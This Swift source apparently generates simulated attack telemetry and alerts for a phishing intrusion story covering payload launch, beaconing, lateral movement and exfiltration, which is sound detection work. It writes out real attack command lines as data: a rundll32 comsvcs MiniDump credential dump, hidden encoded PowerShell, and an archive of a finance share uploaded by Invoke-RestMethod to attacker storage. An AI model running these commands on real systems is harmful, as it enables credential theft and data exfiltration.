/// Phishing whose link brings a payload, from which the attacker goes on to servers.
struct PayloadStory {
  let campaign: PhishingCampaign
  let payload: FileArtifact
  /// Where the payload reports to.
  let control: String

  static func tell(_ writer: inout StoryWriter, _ infrastructure: AttackerInfrastructure) {
    let campaign = PhishingCampaign.send(infrastructure, &writer)
    let story = PayloadStory(
      campaign: campaign,
      payload: infrastructure.payload,
      control: infrastructure.addresses[around: 1]
    )
    for mail in campaign.clicked.all { story.run(on: mail.recipient, &writer) }
    let first = campaign.clicked.first.recipient
    let entry = writer.world.workstation(of: first)
    let administrator = writer.random.pick(writer.world.administrators)
    story.stealCredentials(on: entry, of: first, &writer)
    let servers = writer.random.sample(writer.world.servers.all, writer.random.number(1...2))
    for server in servers { story.move(from: entry, to: server, as: administrator, &writer) }
    if let last = servers.last { story.exfiltrate(from: last, as: administrator, &writer) }
  }

  /// The payload starts on a person's workstation and calls home.
  private func run(on person: Account, _ writer: inout StoryWriter) {
    writer.waitAsAttackersDo()
    let machine = writer.world.workstation(of: person)
    let browser = writer.process(.browser, "msedge.exe", as: person, under: .explorer)
    writer.logFile(payload, from: campaign.infrastructure.landing, by: browser, on: machine)
    writer.wait(.moments)
    let start = writer.process(payload, "\"\(payload.path)\"", as: person, under: .explorer)
    writer.logProcess(start, on: machine)
    writer.raise(
      PayloadAlerts.started,
      "payload",
      [
        .device(machine, "attacked"), .account(person), .file(payload, on: machine),
        .process(start, on: machine),
      ]
    )
    writer.wait(.moments)
    let line = "powershell.exe -nop -w hidden -enc " + writer.random.hexadecimal(40)
    let shell = writer.process(.powerShell, line, as: person, under: payload)
    writer.logProcess(shell, on: machine)
    writer.logConnection(to: control, by: shell, on: machine)
    writer.raise(
      PayloadAlerts.script,
      "payload",
      seen: 0.6,
      [
        .device(machine), .account(person), .process(shell, on: machine),
        .file(.powerShell, on: machine),
      ]
    )
    writer.raise(
      PayloadAlerts.control,
      "payload",
      seen: 0.5,
      [
        .device(machine), .process(shell, on: machine),
        .address(control, "commandAndControl"),
      ]
    )
  }

  private func stealCredentials(
    on machine: Machine,
    of person: Account,
    _ writer: inout StoryWriter
  ) {
    writer.waitAsAttackersDo()
    let line = "rundll32.exe comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full"
    let dump = writer.process(.rundll, line, as: .system, under: .commandPrompt)
    writer.logProcess(dump, on: machine)
    writer.raise(
      PayloadAlerts.memory,
      "credentials",
      [
        .device(machine), .account(.system), .process(dump, on: machine),
        .file(.rundll, on: machine),
      ]
    )
    writer.raise(
      PayloadAlerts.directory,
      "credentials",
      seen: 0.35,
      [.account(person), .device(machine), .device(writer.world.domainController)]
    )
  }

  private func move(
    from source: Machine,
    to target: Machine,
    as account: Account,
    _ writer: inout StoryWriter
  ) {
    writer.waitAsAttackersDo()
    writer.logRemoteLogon(account, from: source, to: target)
    writer.raise(
      PayloadAlerts.hash,
      "lateral movement",
      seen: 0.6,
      [.account(account), .device(source, "source"), .device(target, "destination")]
    )
    let service = writer.process(.remoteService, "PSEXESVC.exe", as: .system, under: .services)
    writer.logProcess(service, on: target)
    writer.raise(
      PayloadAlerts.remoteService,
      "lateral movement",
      seen: 0.6,
      [
        .device(target), .account(account), .account(.system), .process(service, on: target),
        .address(source.address),
      ]
    )
    let line = "cmd.exe /c \(payload.name) -s"
    let shell = writer.process(.commandPrompt, line, as: .system, under: .remoteService)
    writer.logProcess(shell, on: target)
    writer.raise(
      PayloadAlerts.started,
      "lateral movement",
      seen: 0.35,
      [
        .device(target), .account(.system), .file(payload, on: target),
        .process(shell, on: target), .file(.commandPrompt, on: target),
      ]
    )
  }

  private func exfiltrate(
    from server: Machine,
    as account: Account,
    _ writer: inout StoryWriter
  ) {
    writer.waitAsAttackersDo()
    let line = "7z.exe a -p C:\\Windows\\Temp\\d.7z D:\\Shares\\Finance"
    let archive = writer.process(.archiver, line, as: account, under: .commandPrompt)
    writer.logProcess(archive, on: server)
    writer.wait(.minutes)
    let goal = campaign.infrastructure.addresses[around: 2]
    let url = writer.random.pick(AttackerInfrastructure.sharedStorage)
    let upload = writer.process(
      .powerShell,
      "powershell.exe Invoke-RestMethod -Method Put -InFile C:\\Windows\\Temp\\d.7z -Uri " + url,
      as: account,
      under: .commandPrompt
    )
    writer.logProcess(upload, on: server)
    writer.logConnection(to: goal, url: url, by: upload, on: server)
    writer.raise(
      PayloadAlerts.upload,
      "exfiltration",
      [
        .device(server), .account(account), .process(upload, on: server), .address(goal),
        .url(url),
      ]
    )
    writer.raise(
      PayloadAlerts.staging,
      "exfiltration",
      seen: 0.4,
      [.device(server), .account(account), .process(archive, on: server)]
    )
  }
}
